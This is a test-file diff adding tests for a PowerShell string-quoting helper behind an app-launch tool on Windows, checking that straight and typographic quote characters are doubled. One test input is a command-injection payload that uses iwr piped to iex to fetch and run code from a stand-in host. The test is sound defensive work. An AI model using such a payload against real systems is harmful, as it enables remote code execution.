@@ -8,6 +8,7 @@ import {
   findDesktopEntry,
   loadDesktopEntries,
   parseDesktopEntry,
+  powerShellQuote,
   type DesktopEntry,
 } from '../../src-main/device/apps';
 import { splitArgs } from '../../src-main/device/split-args';
@@ -167,5 +168,20 @@ describe('contract additions', () => {
     expect(toolTimeoutMs('launch_app', { name: 'x' })).toBeGreaterThan(15_000);
     expect(toolTimeoutMs('execute_command', { command: 'x' })).toBe(70_000);
     expect(toolTimeoutMs('execute_command', { command: 'x', timeout_s: 5 })).toBe(15_000);
+  });
+});
+
+describe('powerShellQuote (launch_app on Windows)', () => {
+  it('doubles every quote character PowerShell ends a single-quoted string at', () => {
+    expect(powerShellQuote('notes.txt')).toBe("'notes.txt'");
+    expect(powerShellQuote("it's")).toBe("'it''s'");
+    // The typographic quotes close a PowerShell string too: left single they would end it early.
+    expect(powerShellQuote('a\u2019);iwr e.example/p|iex;(\u2019')).toBe("'a\u2019\u2019);iwr e.example/p|iex;(\u2019\u2019'");
+    for (const quote of ['\u2018', '\u2019', '\u201A', '\u201B', "'"]) {
+      const quoted = powerShellQuote(`x${quote}y`);
+      // Inside the outer quotes every quote character comes in pairs: none can end the string.
+      const inner = quoted.slice(1, -1);
+      expect(inner.replace(new RegExp(`${quote}${quote}`, 'g'), '')).not.toContain(quote);
+    }
   });
 });
